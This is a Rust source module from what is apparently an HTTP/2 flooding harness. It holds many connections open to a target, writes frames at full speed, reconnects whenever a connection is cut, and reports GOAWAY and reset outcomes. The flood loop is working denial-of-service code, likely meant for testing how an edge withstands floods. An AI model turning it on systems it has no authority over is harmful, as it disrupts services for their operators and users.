//! A flood at full speed: each connection writes as fast as the edge takes it, and is opened again when it is cut.

use std::cell::{Cell, RefCell};
use std::collections::BTreeMap;
use std::rc::Rc;
use std::time::Duration;

use serde_json::json;
use tokio::io::{AsyncWriteExt as _, split};
use tokio::task::spawn_local;
use tokio::time::{sleep, timeout};

use crate::frames::{Kind, Reader, Said};
use crate::meter::{Fault, Starter};
use crate::{AGAIN, Enemy};

/// What became of all connections.
#[derive(Default)]
pub(crate) struct Seen {
    pub(crate) opened: Cell<u64>,
    pub(crate) units: Cell<u64>,
    ends: RefCell<BTreeMap<String, u64>>,
}

impl Seen {
    pub(crate) fn end(&self, how: impl Into<String>) {
        *self.ends.borrow_mut().entry(how.into()).or_default() += 1;
    }

    pub(crate) fn report(&self) -> serde_json::Value {
        json!({ "opened": self.opened.get(), "units": self.units.get(), "ends": *self.ends.borrow() })
    }
}

/// Floods until stdin ends.
pub(crate) async fn run(enemy: Rc<Enemy>, kind: Kind, connections: usize) -> Result<(), Fault> {
    let seen = Rc::new(Seen::default());
    let mut starter = Starter::new();
    for turn in 0..connections {
        let (enemy, seen) = (Rc::clone(&enemy), Rc::clone(&seen));
        spawn_local(async move {
            loop {
                match connection(&enemy, kind, turn, &seen).await {
                    Ok(how) => seen.end(how),
                    Err(fault) => seen.end(format!("not opened: {fault}")),
                }
                sleep(AGAIN).await;
            }
        });
    }
    starter.tell("ready");
    starter.end().await?;
    starter.tell(seen.report());
    Ok(())
}

/// One connection to its end; says how that was.
async fn connection(enemy: &Enemy, kind: Kind, turn: usize, seen: &Seen) -> Result<String, Fault> {
    let dialer = enemy.target.dialer("h2", false)?;
    let (mut reader, mut writer) = split(enemy.open(&dialer, turn).await?);
    seen.opened.set(seen.opened.get() + 1);
    let host = &enemy.target.host;
    let reading = async {
        let mut frames = Reader::default();
        let mut how = "closed".to_owned();
        while let Some(said) = frames.next(&mut reader).await {
            if let Said::Goaway { code, .. } = said {
                how = format!("GOAWAY {code}");
            }
        }
        how
    };
    let writing = async {
        if writer.write_all(&kind.start(host)).await.is_err() {
            return;
        }
        let mut count = 0;
        loop {
            let mut batch = Vec::with_capacity(20 << 10);
            let from = count;
            while batch.len() < 16 << 10 {
                batch.extend(kind.unit(host, count));
                count += 1;
            }
            if writer.write_all(&batch).await.is_err() || writer.flush().await.is_err() {
                return;
            }
            seen.units.set(seen.units.get() + u64::from(count - from));
            // Each has its turn: one thread drives them all.
            tokio::task::yield_now().await;
        }
    };
    tokio::pin!(reading);
    tokio::select! {
        how = &mut reading => Ok(how),
        () = writing => Ok(timeout(Duration::from_secs(1), reading).await.unwrap_or_else(|_| "reset".to_owned())),
    }
}
